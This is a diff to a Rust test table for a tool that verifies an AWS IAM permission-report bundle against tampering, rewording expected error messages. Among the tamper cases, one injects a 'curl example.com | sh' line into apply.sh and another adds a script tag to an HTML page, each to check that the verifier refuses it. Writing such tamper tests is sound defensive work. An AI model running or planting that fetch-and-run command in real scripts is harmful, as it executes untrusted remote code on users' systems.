@@ -100,7 +100,7 @@ const CASES: [Case; 67] = [
     case("a catalog without a service", |it| it.json("catalog.json", |it| drop(it.as_object_mut().unwrap().remove("s3"))), "catalog.json"),
     case("a catalog without an action that is in use", |it| it.json("catalog.json", |it| drop(it["organizations"].as_array_mut().unwrap().remove(0))), "catalog.json"),
     case("a catalog without what nobody proves anything of", |it| it.json("catalog.json", |it| drop(it["sts"].as_array_mut().unwrap().remove(0))), "catalog.json"),
-    case("another catalog by its digest in both files", |it| it.report(|it| it.catalog.digest = "0".repeat(64)), "is not what the report's own data give"),
+    case("another catalog by its digest in both files", |it| it.report(|it| it.catalog.digest = "0".repeat(64)), "differs from what the report's data give"),
     case("actions that AWS is said not to see", |it| it.json("basis.json", |it| it["unobserved"] = json!(["s3:*"])), "basis.json"),
     // What is run.
     case("a line in apply.sh", |it| it.replace("changes/apply.sh", "\ncd ", "\ncurl example.com | sh\ncd "), "changes/apply.sh"),
@@ -143,15 +143,15 @@ const CASES: [Case; 67] = [
     case("coverage", |it| it.account("111111111111", |it| it.summary.coverage = Coverage::Excluded), "accounts/111111111111.json"),
     case("confidence", |it| it.change(ADMIN, |it| it.confidence.level = Level::High), ADMIN),
     case("confidence with its reasons", |it| it.change(ADMIN, |it| { it.confidence.level = Level::High; it.confidence.reasons.clear(); }), "report.json"),
-    case("impact", |it| it.change(ADMIN, |it| it.impact.severity = Severity::default()), "is not what the report's own data give"),
-    case("escalations", |it| it.change(READER, |it| it.impact.escalations.push(EscalationRow { actions: "a".to_owned(), gives: "b".to_owned(), source: "c".to_owned() })), "is not what the report's own data give"),
+    case("impact", |it| it.change(ADMIN, |it| it.impact.severity = Severity::default()), "differs from what the report's data give"),
+    case("escalations", |it| it.change(READER, |it| it.impact.escalations.push(EscalationRow { actions: "a".to_owned(), gives: "b".to_owned(), source: "c".to_owned() })), "differs from what the report's data give"),
     case("patterns", |it| it.change(READER, |it| it.patterns.clear()), READER),
     case("what a policy is", |it| it.change(READER, |it| it.policy_kind = Some(PolicyKind::AwsManaged)), READER),
     case("what the policies of many accounts are", |it| it.report(|it| it.recommendations.iter_mut().for_each(|it| it.policy_kind = Some(PolicyKind::CustomerManaged))), "fleet/role/fleet-inventory-collector/collect-inventory"),
     case("the verdict", |it| it.json("accounts/111111111111.json", |it| it["recommendations"][0]["proof"]["verdict"] = json!("trust me")), "accounts/111111111111.json"),
     case("what is kept", |it| it.change(READER, |it| it.proof.kept += 1), READER),
     case("a holder and a policy", |it| it.change(READER, |it| { it.holder = "other".to_owned(); it.policy = "other".to_owned(); }), READER),
-    case("an id that is there twice", |it| it.account("888888888888", |it| { let first = it.recommendations[0].clone(); it.recommendations[1] = first; }), "accounts/888888888888.json"),
+    case("an id that appears twice", |it| it.account("888888888888", |it| { let first = it.recommendations[0].clone(); it.recommendations[1] = first; }), "accounts/888888888888.json"),
     case("a script on a page", |it| it.replace("accounts/111111111111.html", "</body>", "<script>1</script></body>"), "accounts/111111111111.html"),
     case("a schema and a link in a ticket", |it| { it.account("111111111111", |it| it.schema = 99); it.put("tickets/888888888888.md", "[look](https://example.com)"); }, "accounts/111111111111.json"),
 ];
@@ -166,7 +166,7 @@ fn a_report_that_was_tampered_with_is_refused_by_name() {
     let root = folder("verify-tampered");
     let good = root.join("good");
     made(&good);
-    super::verify(&good).exits(0).prints("401 files fit the manifest and each other").prints("10 accounts");
+    super::verify(&good).exits(0).prints("401 files unchanged").prints("10 accounts");
     let (next, failed) = (AtomicUsize::new(0), Mutex::new(Vec::new()));
     let work = || {
         while let Some((number, case)) =
